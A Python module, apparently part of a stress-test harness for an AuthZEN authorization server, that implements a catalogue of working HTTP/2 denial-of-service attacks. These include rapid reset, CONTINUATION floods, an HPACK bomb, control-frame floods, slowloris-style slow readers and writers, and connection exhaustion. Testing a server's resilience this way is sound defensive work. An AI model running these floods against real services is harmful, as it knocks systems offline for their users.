"""What a client does to a server that it wants to bring down, or that it treats carelessly.

Each attack is a function of a target and a moment at which to end; several processes run one at once.
A connection that the server ends is opened again, as somebody who means it would.
"""

import os
import resource
import socket
import time

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, connect, frame, frames, request)

BODY = b'{"subject":{"type":"role","id":"nobody"}}'
OPEN = request()
# Streams of one connection, or as many pieces as one call sends.
STREAMS = 256
PIECES = 2_000


def repeat(target: str, end: float, opening: bytes, piece: bytes) -> None:
    """Sends the same again and again, on one connection after the other."""
    burst = piece * PIECES
    while time.monotonic() < end:
        try:
            with connect(target) as connection:
                connection.settimeout(0.5)
                connection.sendall(opening)
                while time.monotonic() < end:
                    connection.sendall(burst)
        except OSError:
            pass


def flood(piece: bytes, opening: bytes = b""):
    return lambda target, end: repeat(target, end, opening, piece)


def numbered(make):
    """Sends what `make` makes of stream after stream."""
    burst = b"".join(make(2 * index + 1) for index in range(20_000))
    return lambda target, end: repeat_once(target, end, burst)


def repeat_once(target: str, end: float, burst: bytes) -> None:
    while time.monotonic() < end:
        try:
            with connect(target) as connection:
                connection.settimeout(0.5)
                view = memoryview(burst)
                while view and time.monotonic() < end:
                    view = view[connection.send(view[:65_536]):]
        except OSError:
            pass


def hold(count: int, opening: bytes, settings: bytes = b"", drip: bytes = b"", reads: bool = True):
    """Keeps connections open that have sent something, and sends a little now and then."""
    def run(target: str, end: float) -> None:
        held: list[socket.socket] = []
        while time.monotonic() < end:
            while len(held) < count and time.monotonic() < end:
                try:
                    connection = connect(target, settings=settings)
                    connection.setblocking(False)
                    connection.send(opening)
                    held.append(connection)
                except OSError:
                    time.sleep(0.01)
            time.sleep(min(0.25, max(0, end - time.monotonic())))
            held = [connection for connection in held if stays(connection, drip, reads)]
        for connection in held:
            connection.close()
    return run


def stays(connection: socket.socket, drip: bytes, reads: bool) -> bool:
    """Whether the server has left a connection open."""
    try:
        if drip:
            connection.send(drip)
        while reads:
            if not connection.recv(65_536):
                raise ConnectionError
    except BlockingIOError:
        pass
    except OSError:
        connection.close()
        return False
    return True


def noise(target: str, end: float) -> None:
    """Bytes drawn at random, with and without a hello before them."""
    while time.monotonic() < end:
        try:
            with connect(target) as connection:
                connection.settimeout(0.5)
                connection.sendall(os.urandom(65_536))
        except OSError:
            pass


def churn(rate: int):
    """Opens connections at a rate; each asks once, reads the answer and goes."""
    def run(target: str, end: float) -> None:
        begin, count = time.monotonic(), 0
        while time.monotonic() < end:
            ahead = begin + count / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
            count += 1
            with connect(target) as connection:
                connection.sendall(
                    frame(HEADERS, END_HEADERS, 1, OPEN) + frame(DATA, END_STREAM, 1, BODY))
                while len(connection.recv(65_536)) > 200:
                    pass
        print(f"{count / (time.monotonic() - begin):.0f} connections a second")
    return run


def ask(target: str, end: float) -> None:
    """Requests as fast as they are answered, as many at a time as may be: no attack, but a load."""
    stream = 1
    with connect(target) as connection:
        answers = frames(connection)
        while time.monotonic() < end:
            burst = b""
            for _ in range(STREAMS // 2):
                burst += frame(HEADERS, END_HEADERS, stream, OPEN)
                burst += frame(DATA, END_STREAM, stream, BODY)
                stream += 2
            connection.sendall(burst + frame(WINDOW_UPDATE, payload=(65_535).to_bytes(4, "big")))
            asked = STREAMS // 2
            while asked > 0:
                kind, flags, _, _ = next(answers)
                if kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM:
                    asked -= 1


def idle(target: str, end: float, count: int = 10_000) -> None:
    """Opens connections that say hello, and then nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = [connect(target) for _ in range(count)]
    print(f"{len(held)} connections")
    time.sleep(max(0, end - time.monotonic()))


WHOLE = frame(HEADERS, END_HEADERS | END_STREAM, 1, request(method=b"GET"))
OPENED = frame(HEADERS, END_HEADERS, 1, OPEN)
MANY = b"".join(
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, request(b"/.well-known/authzen-configuration", b"GET"))
    for index in range(200))
UNFINISHED = b"".join(frame(HEADERS, END_HEADERS, 2 * index + 1, OPEN) for index in range(200))
BOMB_SEED = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4_000

# By name: what, and how many processes.
ATTACKS = {
    "nothing": (None, 0),
    "idle connections": (idle, 1),
    "churn": (churn(500), 2),
    "rapid reset": (
        numbered(lambda stream: frame(HEADERS, END_HEADERS, stream, OPEN)
                 + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")), 2),
    "CONTINUATION": (flood(frame(CONTINUATION, 0, 1, b""), frame(HEADERS, 0, 1, OPEN)), 2),
    "long CONTINUATION": (
        flood(frame(CONTINUATION, 0, 1, b"\0\1x\x7f\x81\x7f" + b"v" * 16_378)[:9 + 16_384],
              frame(HEADERS, 0, 1, OPEN)), 2),
    "SETTINGS": (flood(frame(SETTINGS, payload=b"\0\3\0\0\0\1" * 8)), 2),
    "PING": (flood(frame(PING, payload=b"12345678")), 2),
    "PRIORITY": (flood(frame(PRIORITY, 0, 99, b"\0\0\0\3\x10")), 2),
    "WINDOW_UPDATE": (flood(frame(WINDOW_UPDATE, payload=b"\0\0\0\1")), 2),
    "empty DATA": (flood(frame(DATA, 0, 1), OPENED), 2),
    "DATA of a byte": (flood(frame(DATA, 0, 1, b"x"), OPENED), 2),
    "unknown frames": (flood(frame(0x55, 0, 0, b"x")), 2),
    "empty fields": (
        numbered(lambda stream: frame(
            HEADERS, END_HEADERS | END_STREAM, stream, request(more=[(b"", b"")] * 60))), 2),
    "HPACK bomb": (
        lambda target, end: repeat_once(
            target, end, frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + BOMB_SEED)
            + b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 3, request() + b"\xbe" * 16_000)
                for index in range(100))), 2),
    "zero windows": (hold(100, MANY, settings=b"\0\4\0\0\0\0"), 1),
    "slow readers": (hold(100, frame(WINDOW_UPDATE, payload=b"\x3f\0\0\0") + MANY, reads=False), 1),
    "slow writers": (hold(100, UNFINISHED, drip=frame(DATA, 0, 1, b" " * 64)), 1),
    "slow headers": (hold(400, frame(HEADERS, 0, 1, OPEN)), 1),
    "noise": (noise, 2),
    "requests without end": (ask, 2),
}
